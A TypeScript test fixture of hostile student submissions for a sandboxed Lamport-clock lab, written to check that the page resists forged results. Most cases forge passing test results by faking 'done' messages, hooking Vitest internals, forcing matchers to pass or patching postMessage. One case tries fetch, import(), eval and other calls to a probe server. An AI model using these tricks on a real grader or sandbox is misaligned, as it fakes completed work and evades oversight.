/**
 * Hostile learner files for the Lamport lab, as a student would type them into the page:
 * each is the failing starter plus a few lines that try to make the page say "Lab done",
 * to reach the network, or to leave something behind for the next run. Used by
 * page-forgery.test.ts. Every attack was checked to work against the page before its
 * protections (a forged `done`, a rewritten result, a patched worker each recorded a pass).
 */
import { readFileSync } from 'node:fs';

export const STARTER = readFileSync('labs/lamport-clocks/starter/lamport.ts', 'utf8');
export const SOLUTION = readFileSync('labs/lamport-clocks/solution/lamport.ts', 'utf8');
/** The Lamport lab's test count, from its list of tests. */
export const LAMPORT_TESTS = (JSON.parse(readFileSync('labs/lamport-clocks/tests.json', 'utf8')) as { tests: string[] }).tests.length;

export interface HostileCase {
  name: string;
  /** What it tries, in words. */
  attack: string;
  /** The whole lamport.ts; `probe` is the address of a server that records every request. */
  file(probe: string): string;
  /** Text the terminal must show (the learner is told why). */
  says?: RegExp;
}

const plus = (lines: string) => `${STARTER}\n${lines}\n`;

/** A summary of a run in which every test passed, as the old page protocol carried it. */
const FORGED_SUMMARY = `{ state: 'pass', passed: ${LAMPORT_TESTS}, failed: 0, skipped: 0, tests: [], fileErrors: [], durationMs: 1 }`;

export const hostileCases: HostileCase[] = [
  {
    name: 'forged-done-message',
    attack: "posts a forged 'done' (every test passed) with a plain postMessage, for any run id, and forged passing test-end events",
    file: () =>
      plus(`const __post: any = (self as any).postMessage;
const __fake: any = ${FORGED_SUMMARY};
try {
  for (let runId = 1; runId <= 50; runId++) {
    __post({ type: 'event', runId, event: { type: 'test-end', name: 'x', fullName: 'x', file: 'tests/lamport.test.ts', state: 'pass', durationMs: 1, errors: [] } });
    __post({ type: 'event', runId, event: { type: 'done', summary: __fake } });
  }
  __post({ nonce: '', event: { type: 'done', summary: __fake } });
} catch {}`),
  },
  {
    name: 'afterEach-from-vitest',
    attack: "imports afterEach from 'vitest' and rewrites every test's result to pass",
    file: () =>
      plus(`import { afterEach } from 'vitest';
afterEach((ctx) => { const r: any = ctx.task.result; if (r) { r.state = 'pass'; r.errors = []; } });`),
    says: /lamport\.ts imports 'vitest': a lab file may import only the lab's own files and types from 'faultlines'/,
  },
  {
    name: 'vitest-worker-state',
    attack: 'reaches the running test through globalThis.__vitest_worker__ and rewrites its result to pass when it finishes',
    file: () =>
      plus(`const __ws: any = (globalThis as any)['__vitest_' + 'worker__'];
if (__ws) {
  let __cur: any;
  Object.defineProperty(__ws, 'current', {
    configurable: true,
    get: () => __cur,
    set(v: any) {
      __cur = v;
      if (v && v.type === 'test') (v.onFinished ??= []).push(() => { v.result.state = 'pass'; v.result.errors = undefined; });
    },
  });
}`),
  },
  {
    name: 'vitest-symbol-globals',
    attack: "reaches Vitest's expect and matchers through Symbol.for('expect-global') / ('$$jest-matchers-object') and any global symbol, and makes every matcher pass",
    file: () =>
      plus(`const __g: any = globalThis;
const __yes = () => ({ pass: true, message: () => '' });
const __found: string[] = [];
for (const k of [...Object.getOwnPropertyNames(__g), ...Object.getOwnPropertySymbols(__g)]) if (/vitest|jest|chai|matchers|expect/i.test(String(k))) __found.push(String(k));
console.log('VITEST GLOBALS FOUND: ' + JSON.stringify(__found));
try { __g[Symbol.for('expect-global')].extend({ toBe: __yes, toEqual: __yes, toStrictEqual: __yes, toBeGreaterThan: __yes, toBeLessThan: __yes, toBeTruthy: __yes }); } catch {}
try { __g[Symbol.for('$$jest-matchers-object')].customEqualityTesters.push(() => true); } catch {}
for (const s of Object.getOwnPropertySymbols(__g)) { try { const v = __g[s]; if (v && Array.isArray(v.customEqualityTesters)) v.customEqualityTesters.push(() => true); } catch {} }`),
    says: /VITEST GLOBALS FOUND: \[\]/,
  },
  {
    name: 'patched-worker',
    attack: "patches the worker's postMessage (global and MessagePort's) to report every test as passed, and Object.is, so that later runs of the untouched starter pass",
    file: () =>
      plus(`const __lie = (m: any) => {
  const e = m && m.event;
  if (e && e.type === 'test-end') { e.state = 'pass'; e.errors = []; }
  if (e && e.type === 'done') Object.assign(e.summary, ${FORGED_SUMMARY}, { tests: e.summary.tests.map((t: any) => ({ ...t, state: 'pass', errors: [] })) });
  return m;
};
const __self: any = self;
if (typeof __self.postMessage === 'function') { const p = __self.postMessage; __self.postMessage = function (m: any, ...r: any[]) { return p.call(__self, __lie(m), ...r); }; }
const __port = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (this: MessagePort, m: any, ...r: any[]) { return (__port as any).call(this, __lie(m), ...r); };
Object.is = () => true;`),
  },
  {
    name: 'network-and-code',
    attack: 'calls fetch, XMLHttpRequest, WebSocket, EventSource, importScripts, a nested Worker, sendBeacon, import() from a string (eval, Function, a string timer) and indexedDB',
    file: (probe) =>
      plus(`const __probe = ${JSON.stringify(probe)};
const __s: any = self;
const __tried: string[] = [];
const __try = (what: string, f: () => unknown) => { try { const r: any = f(); if (r && typeof r.catch === 'function') r.catch(() => {}); __tried.push(what + ': ran'); } catch (e) { __tried.push(what + ': ' + String(e).slice(0, 60)); } };
__try('fetch', () => __s.fetch(__probe + 'fetch'));
__try('xhr', () => { const x = new __s.XMLHttpRequest(); x.open('GET', __probe + 'xhr'); x.send(); });
__try('websocket', () => new __s.WebSocket(__probe.replace('http:', 'ws:') + 'websocket'));
__try('eventsource', () => new __s.EventSource(__probe + 'eventsource'));
__try('importScripts', () => __s.importScripts(__probe + 'importScripts.js'));
__try('worker', () => new __s.Worker(__probe + 'worker.js'));
__try('sendBeacon', () => __s.navigator.sendBeacon(__probe + 'beacon', 'x'));
__try('eval', () => (0, __s.eval)("import('" + __probe + "eval.js')"));
__try('Function', () => new Function("return import('" + __probe + "function.js')")());
__try('AsyncFunction', () => (async () => {}).constructor("return import('" + __probe + "async-function.js')")());
__try('string timer', () => setTimeout("import('" + __probe + "timer.js')", 0));
__try('import()', () => import(__probe + 'import.js'));
__try('font', () => new __s.FontFace('x', 'url(' + __probe + 'font.woff2)').load());
__try('indexedDB', () => __s.indexedDB.open('hostile'));
__try('caches', () => __s.caches.open('hostile'));
console.log('HOSTILE TRIED ' + __tried.join(' | '));`),
    says: /HOSTILE TRIED fetch: TypeError/,
  },
];
